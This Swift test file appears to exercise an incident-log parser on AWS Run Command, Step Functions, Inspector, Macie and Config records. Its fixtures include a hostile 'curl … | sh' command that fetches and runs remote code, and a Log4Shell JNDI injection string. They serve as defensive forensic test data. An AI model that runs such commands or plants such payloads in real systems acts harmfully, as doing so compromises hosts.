import Bytes
import Evidence
import Testing

@testable import LogParse

/// Records of services around an incident: Run Command, Step Functions, Inspector, Macie and Config.
@Suite struct ServiceRecordTests {
  private static let instance = "i-0b7c4e19d2f35a86e"

  private static func read(_ text: String, _ format: String) throws -> [Event] {
    let dump = try EventDump(text, path: "x.json")
    #expect(dump.format == format)
    return dump.events
  }

  @Test func runCommand() throws {
    let list =
      #"{"Commands":[{"CommandId":"c-1","DocumentName":"AWS-RunShellScript","Parameters":{"commands":["curl http://203.0.113.66/x | sh","id"]},"InstanceIds":["\#(Self.instance)"],"RequestedDateTime":"2026-11-25T14:20:12.5+09:00","Status":"Success"}]}"#
    let event = try #require(try Self.read(list, "aws.ssm.command").first)
    #expect(event.dataType == "aws:ssm:command" && event.text("command") == "curl http://203.0.113.66/x | sh\nid")
    #expect(event.time?.zone == .stated(540) && event.entities.contains(Entity(.instance, Self.instance)))
    #expect(event.locator.offset == 13)
    let result =
      #"{"CommandId":"c-1","InstanceId":"\#(Self.instance)","DocumentName":"AWS-RunShellScript","ResponseCode":0,"ExecutionStartDateTime":"2026-11-25T05:20:12.5Z","Status":"Success","StandardOutputContent":"uid=0(root)"}"#
    #expect(try Self.read(result, "aws.ssm.command").first?.text("text") == "uid=0(root)")
    let notice =
      #"{"version":"0","detail-type":"EC2 Command Status-change Notification","detail":{"command-id":"c-1","document-name":"AWS-RunShellScript","instance-ids":["\#(Self.instance)"],"requested-date-time":"2026-11-25T05:20:12.5Z","status":"Success","parameters":"{\"commands\":[\"id\"]}"}}"#
    #expect(try Self.read(notice, "aws.ssm.command").first?.text("command") == "id")
    #expect(try EventDump(#"{"CommandId":1,"DocumentName":"x"}"#, path: "x.json").format != "aws.ssm.command")
  }

  @Test func stepFunctions() throws {
    let text =
      #"{"events":[{"timestamp":1795584012.123,"type":"ExecutionStarted","id":1,"previousEventId":0,"executionStartedEventDetails":{"input":"{}","roleArn":"arn:aws:iam::111122223333:role/deploy"}},{"timestamp":"2026-11-25T05:20:13Z","type":"LambdaFunctionScheduled","id":2,"previousEventId":1,"lambdaFunctionScheduledEventDetails":{"resource":"arn:x","input":"${jndi:ldap://x}"}}]}"#
    let events = try Self.read(text, "aws.stepfunctions")
    #expect(
      events.count == 2
        && events.first?.time == Timestamp(nanoseconds: 1_795_584_012_123_000_000, precision: .millisecond))
    #expect(events.first?.entities == [Entity(.role, "deploy")])
    #expect(events.last?.text("input") == "${jndi:ldap://x}")
  }

  @Test func inspectorAndMacie() throws {
    let finding =
      #"{"findings":[{"findingArn":"arn:f","awsAccountId":"111122223333","type":"PACKAGE_VULNERABILITY","severity":"CRITICAL","title":"CVE-2021-44228 - log4j-core","status":"ACTIVE","firstObservedAt":"2026-11-20T00:00:00Z","lastObservedAt":"2026-11-25T00:00:00Z","packageVulnerabilityDetails":{"vulnerabilityId":"CVE-2021-44228","vulnerablePackages":[{"name":"log4j-core","version":"2.14.1","filePath":"opt/a.jar"}]},"resources":[{"id":"\#(Self.instance)","type":"AWS_EC2_INSTANCE","details":{"awsEc2Instance":{"ipV4Addresses":["10.0.2.15"]}}}]}]}"#
    let event = try #require(try Self.read(finding, "aws.inspector").first)
    #expect(event.text("vulnerability") == "CVE-2021-44228" && event.time == Timestamp(iso8601: "2026-11-25T00:00:00Z"))
    #expect(
      event.entities.contains(Entity(.instance, Self.instance))
        && event.entities.contains(Entity(.address, "10.0.2.15")))
    let macie =
      #"{"findings":[{"id":"m1","accountId":"111122223333","schemaVersion":"1.0","type":"Policy:IAMUser/S3BucketPublic","category":"POLICY","title":"Bucket is public","severity":{"score":3,"description":"High"},"createdAt":"2026-11-25T05:20:12Z","updatedAt":"2026-11-25T05:21:12Z","resourcesAffected":{"s3Bucket":{"name":"backup"}},"policyDetails":{"action":{"apiCallDetails":{"api":"PutBucketPolicy"}},"actor":{"ipAddressDetails":{"ipAddressV4":"203.0.113.66"},"userIdentity":{"iamUser":{"userName":"ops"}}}}}]}"#
    let open = try #require(try Self.read(macie, "aws.macie").first)
    #expect(open.time == Timestamp(iso8601: "2026-11-25T05:21:12Z") && open.text("bucket") == "backup")
    #expect(open.entities.contains(Entity(.user, "ops")) && open.entities.contains(Entity(.address, "203.0.113.66")))
  }

  @Test func configurationItems() throws {
    let item =
      #"{"configurationItemCaptureTime":"2026-11-25T05:20:12.123Z","resourceType":"AWS::EC2::Instance","resourceId":"\#(Self.instance)","awsAccountId":"111122223333","awsRegion":"x","configurationItemStatus":"OK","configuration":{"publicIpAddress":"203.0.113.10"}}"#
    let file = "{\"fileVersion\":\"1.0\",\"configurationItems\":[\n\(item),\n\(item)]}"
    let events = try Self.read(file, "aws.config")
    #expect(events.count == 2 && events.map(\.locator.line) == [2, 3])
    #expect(events.last?.locator.length == UInt64(item.utf8.count))
    #expect(events.first?.entities.contains(Entity(.address, "203.0.113.10")) == true)
    let notice = "{\"detail-type\":\"Config Configuration Item Change\",\"detail\":{\"configurationItem\":\(item)}}"
    #expect(try Self.read(notice, "aws.config").count == 1)
    #expect(try EventDump(#"{"resourceType":"x","configurationItems":[]}"#, path: "x.json").format != "aws.config")
  }
}
